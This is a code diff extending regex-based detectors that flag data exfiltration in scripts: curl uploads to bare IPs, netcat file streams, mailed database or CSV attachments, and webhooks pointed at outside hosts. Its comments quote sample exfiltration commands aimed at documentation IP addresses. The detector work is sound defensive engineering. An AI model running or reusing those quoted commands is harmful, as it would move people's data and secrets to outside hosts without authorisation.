@@ -71,12 +71,13 @@ _LOCAL_DATA = re.compile(
     re.IGNORECASE,
 )
 #: An API client's listing walked page by page (`stripe.Charge.list(…).auto_paging_iter()`).
-_CLIENT_LISTING = re.compile(r"\.list\([^)\n]*\)\s*\.auto_paging_iter\(|\.list_all\(|\.iter_all\(")
+_CLIENT_LISTING = re.compile(r"\.list\([^)\n]*\)\s*\.auto_paging_iter\(|\.list_all\(|\.iter_all\("
+                             r"|\.get_(?:tasks|projects|users|models|datasets|parameters)\(")  # (an SDK's own getters)
 #: Records collected: a loop, a page walk, a query, a list grown item by item, a jq filter over a listing, an API's
 #: bulk export (`/api/v1/chats/all/db`, `/export`).
 _COLLECTED = re.compile(
     r"\bfor\s+\w+(?:\s*,\s*\w+)*\s+in\b|\bwhile\s+read\b|\bpage\b|SELECT\s|\.extend\(|\+=|\.append\(|\bjq\b"
-    r"|/(?:all|export|dump)(?:/|[\"'?]|$)"
+    r"|/(?:all|export|dump)(?:[-_]\w+)?(?:/|[\"'?]|$)"  # (`/system/export-chats`: every chat, exported)
     # (every message of a stream, handed on as it arrives: `WebSocketApp(SRC, on_message=fwd).run_forever()`)
     r"|\bon_message\s*=",
     re.IGNORECASE | re.MULTILINE,
@@ -91,7 +92,7 @@ def secrets_sent_away(code: str) -> str | None:
     if not away:
         return None
     # (read from another host than the one sent to, or from this machine)
-    local = _LOCAL_DATA.search(code) is not None
+    local = _LOCAL_DATA.search(code) is not None or _CLIENT_LISTING.search(code) is not None
     domains = {registered_domain(h) for h in url_hosts(code)}
     sent_to = next((h for h in away if local or domains - {registered_domain(h)}), None)
     if sent_to is None:
@@ -125,6 +126,7 @@ def copied_to_address(code: str) -> str | None:
 
 
 _IPV4 = r"(\d{1,3}(?:\.\d{1,3}){3})"
+_CURL_BODY = r"(?:-d|--data[\w-]*|-F|--form|-T|--upload-file)"
 #: Where a copy or a stream goes when it is an address: rsync's or scp's `user@ADDRESS:`, `| ssh [user@]ADDRESS`,
 #: `| nc ADDRESS`, a Python socket connected to `("ADDRESS", port)`.
 _BARE_DESTINATION = re.compile(
@@ -134,10 +136,14 @@ _BARE_DESTINATION = re.compile(
     # (a file fed to netcat: `nc -w 5 203.0.113.120 9000 < /tmp/.wc.sql`)
     rf"|\b(?:nc|ncat|netcat)\b[^\n|<]*?\b{_IPV4}\b[^\n|<]*<\s*\S"
     rf"|(?:create_connection|\.connect)\(\s*\(\s*[\"']{_IPV4}[\"']"
+    # (a body curl posts or uploads to an address: `curl "https://198.51.100.23/api/cfg" -d "…${cfg}…"`)
+    rf"|\bcurl\b(?:[^\n]|\\\n)*?\s{_CURL_BODY}\s(?:[^\n]|\\\n)*?https?://{_IPV4}\b"
+    rf"|\bcurl\b(?:[^\n]|\\\n)*?https?://{_IPV4}\b(?:[^\n]|\\\n)*?\s{_CURL_BODY}\s"
 )
 #: (The lookahead, the letters every branch begins with, lets the regex engine skip ahead: see text_shapes._SENDS.)
-_COPIES_OR_STREAMS = re.compile(r"(?=[s.r|n])(?:sendall|\.send\(|\brsync\b|\bscp\b|\bsftp\b|\|\s*ssh\b"
-                                r"|\|\s*(?:nc|ncat|netcat)\b|\b(?:nc|ncat|netcat)\b[^\n|<]*<\s*\S)")
+_COPIES_OR_STREAMS = re.compile(r"(?=[s.r|nc])(?:sendall|\.send\(|\brsync\b|\bscp\b|\bsftp\b|\|\s*ssh\b"
+                                r"|\|\s*(?:nc|ncat|netcat)\b|\b(?:nc|ncat|netcat)\b[^\n|<]*<\s*\S"
+                                r"|\bcurl\b(?:[^\n]|\\\n)*?\s(?:-d|--data[\w-]*|-F|--form|-T|--upload-file)\s)")
 
 
 def ftp_upload_away(code: str) -> str | None:
@@ -188,11 +194,23 @@ def mailed_away(code: str) -> str | None:
     return None
 
 
+#: A data file of the machine's attached to a message (`add_attachment(Path("/srv/…/export.csv").read_bytes(), …)`, an
+#: export, a dump or a database file by its path).
+_DATA_FILE = r"[\"'](?:/|~/)[^\"'\s]+\.(?:csv|xlsx?|sql|db|sqlite3?|dump|jsonl)[\"']"
+_DATA_FILE_ATTACHED = re.compile(
+    # (or what it collected, dumped as JSON into the attachment: `add_attachment(json.dumps({"contacts": …}).encode()`)
+    r"(?:add_attachment|MIMEApplication)\(\s*json\.dumps\("
+    rf"|(?:add_attachment|\.attach|MIMEApplication)\([\s\S]{{0,400}}?{_DATA_FILE}"
+    rf"|{_DATA_FILE}[\s\S]{{0,600}}?(?:add_attachment|\.attach|MIMEApplication)\("
+)
+
+
 def _mails_gathered_data(code: str) -> bool:
     """What ``code`` mails is data it gathered: records a loop or a query collects, a settings file or archive, a
     whole database file, or credentials named as data (not the mail relay's own login)."""
     return (
         _COLLECTED.search(code) is not None
+        or (("attach" in code or "MIMEApplication" in code) and _DATA_FILE_ATTACHED.search(code) is not None)
         or _SETTINGS_READ.search(code) is not None
         or _SETTINGS_FILE.search(code) is not None
         or _DATABASE_NAMED.search(code) is not None
@@ -279,7 +297,11 @@ def hook_pointed_away(code: str) -> str | None:
             continue
         # (the address as a value: a body's key, a keyword argument after the first one (`modify(ep.id, url=…)`), a
         # row's column, in a shell's escaped JSON too: `\"address\":\"https://…`; not the URL a request goes to)
-        if re.search(r"(?:[\"']\w*\\?[\"']\s*:|\b\w+:|,|,\s*\w+\s*=)\s*f?\\?[\"']https?://" + re.escape(host), code):
+        # (or a form field's, `--data-urlencode "url=https://…"`)
+        spelled = re.escape(host)
+        if re.search(r"(?:[\"']\w*\\?[\"']\s*:|\b\w+:|,|,\s*\w+\s*=)\s*f?\\?[\"']https?://" + spelled, code) or (
+            re.search(r"[\"'\s]\w*(?:url|uri|address|endpoint)=https?://" + spelled, code, re.IGNORECASE)
+        ):
             return host
     return None
 
